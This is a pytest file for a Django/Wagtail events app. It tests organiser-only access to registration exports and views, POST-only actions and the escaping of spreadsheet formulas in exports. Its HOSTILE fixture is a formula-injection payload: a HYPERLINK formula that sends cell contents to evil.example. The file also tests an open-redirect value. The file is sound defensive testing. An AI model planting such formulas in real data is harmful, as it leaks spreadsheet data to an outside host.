"""The organiser scope as a permission policy (events.organisers.organiser_policy): the
model-wide right first, then the event; every organiser view and export asks it."""

import csv
import io

import pytest
from django.contrib.auth.models import AnonymousUser, Group, Permission
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.models import GroupPagePermission

from accounts.factories import UserFactory
from core.audit import AuditEntry
from core.exports import FORMULA_PREFIXES
from events.factories import EventPageFactory, RegistrationFactory
from events.models import EventPage, Registration
from events.organisers import organiser_policy
from tests.helpers import assert_denied

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


@pytest.fixture
def page_editor(event_index, event):
    """Edits the events' pages (and is even named on the event) but holds no right on
    registrations: an editor of the page is not an organiser."""
    group = Group.objects.create(name="Biên tập trang sự kiện")
    group.permissions.add(Permission.objects.get(content_type__app_label="wagtailadmin", codename="access_admin"))
    for codename in ("add_page", "change_page", "publish_page"):
        permission = Permission.objects.get(content_type__app_label="wagtailcore", codename=codename)
        GroupPagePermission.objects.create(group=group, page=event_index, permission=permission)
    user = UserFactory(username="bientaptrang")
    user.groups.add(group)
    event.organisers.add(user)
    event.save()
    return user


def test_an_event_page_editor_without_the_registrations_right_is_refused_every_organiser_door(
    client, page_editor, event
):
    RegistrationFactory(event=event, attendee_name="Nguyễn Văn Minh")
    client.force_login(page_editor)
    assert client.get(reverse("wagtailadmin_pages:edit", args=[event.pk])).status_code == 200
    for name, args in (
        ("events_admin:export", [event.pk, "csv"]),
        ("events_admin:export", [event.pk, "xlsx"]),
        ("events_admin:dashboard", [event.pk]),
        ("events_admin:sign_in_sheet", [event.pk]),
        ("events_admin:certificates", [event.pk]),
    ):
        assert_denied(client.get(reverse(name, args=args)))
    assert not AuditEntry.objects.filter(action="export.personal_data").exists()
    # Nor does the page carry the organisers' button.
    html = client.get(reverse("wagtailadmin_pages:edit", args=[event.pk])).content.decode()
    assert reverse("events_admin:dashboard", args=[event.pk]) not in html


def test_the_policy_scopes_events_to_their_organisers(event_index, event):
    other = EventPageFactory(parent=event_index, title="Sự kiện của nhóm khác")
    organiser = UserFactory(username="tochuc", roles=["event_organiser"])
    event.organisers.add(organiser)
    event.save()
    editor = UserFactory(username="chuongtrinh", roles=["programme_editor"])

    assert organiser_policy.user_has_permission(organiser, "manage")
    assert organiser_policy.user_has_permission_for_instance(organiser, "manage", event)
    assert not organiser_policy.user_has_permission_for_instance(organiser, "manage", other)
    assert list(organiser_policy.instances_user_has_permission_for(organiser, "manage")) == [
        EventPage.objects.get(pk=event.pk)
    ]
    assert set(organiser_policy.instances_user_has_permission_for(editor, "manage")) >= {event, other}
    assert organiser_policy.user_has_permission_for_instance(editor, "manage", other)
    # No other action, and nobody anonymous.
    assert not organiser_policy.user_has_permission(organiser, "delete")
    assert not organiser_policy.user_has_permission(AnonymousUser(), "manage")
    assert not organiser_policy.instances_user_has_permission_for(AnonymousUser(), "manage").exists()
    assert set(organiser_policy.users_with_permission("manage")) >= {organiser, editor}


def test_registration_actions_are_post_only(client, event):
    organiser = UserFactory(username="tochuc", roles=["event_organiser"])
    event.organisers.add(organiser)
    event.save()
    registration = RegistrationFactory(event=event, status=Registration.Status.PENDING)
    client.force_login(organiser)
    url = reverse("events_admin:registration_action", args=[registration.pk, "approve"])
    assert client.get(url).status_code == 405
    registration.refresh_from_db()
    assert registration.status == Registration.Status.PENDING
    assert client.post(url, {"next": "https://evil.example/"})["Location"] == reverse(
        "events_admin:dashboard", args=[event.pk]
    )
    registration.refresh_from_db()
    assert registration.status == Registration.Status.CONFIRMED
    unknown = reverse("events_admin:registration_action", args=[registration.pk, "explode"])
    assert client.post(unknown).status_code == 404


def test_the_registrations_listing_export_escapes_formulas(client, event):
    RegistrationFactory(event=event, attendee_name=HOSTILE, enterprise_name="@SUM(A1:A9)")
    organiser = UserFactory(username="tochuc", roles=["event_organiser"])
    event.organisers.add(organiser)
    event.save()
    client.force_login(organiser)
    url = reverse("event_registrations:index")
    body = b"".join(client.get(url, {"export": "csv"}).streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells) and any("SUM(A1:A9)" in cell for cell in cells)
    assert not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
    response = client.get(url, {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    values = [cell for row in sheet.iter_rows() for cell in row]
    assert any(isinstance(c.value, str) and "HYPERLINK" in c.value for c in values)
    for c in values:
        assert c.data_type != "f", c.value
        assert not (isinstance(c.value, str) and c.value.startswith(FORMULA_PREFIXES)), c.value
